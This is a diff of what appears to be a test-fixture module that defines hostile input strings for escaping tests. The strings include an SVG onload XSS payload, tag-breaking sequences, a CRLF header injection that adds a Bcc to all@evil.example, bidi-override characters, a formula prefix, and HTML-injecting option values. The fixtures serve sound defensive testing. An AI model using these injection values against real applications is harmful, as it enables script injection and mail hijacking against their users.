@@ -30,3 +30,7 @@ export const LINE = `${hostile(SECRETS.message)}</title>\u202e\u2066=1+1`;
 
 /** Several lines, one of which would be a header. */
 export const MESSAGE = `${hostile(SECRETS.message)}</textarea></title><svg/onload=alert(3)>\r\nBcc: all@evil.example\u202e`;
+
+/** An option's name and value, and how the staff type it. */
+export const TYPED = ['<b>colour', '"><i>red'] as const;
+export const TYPED_OPTION = TYPED.join('=');
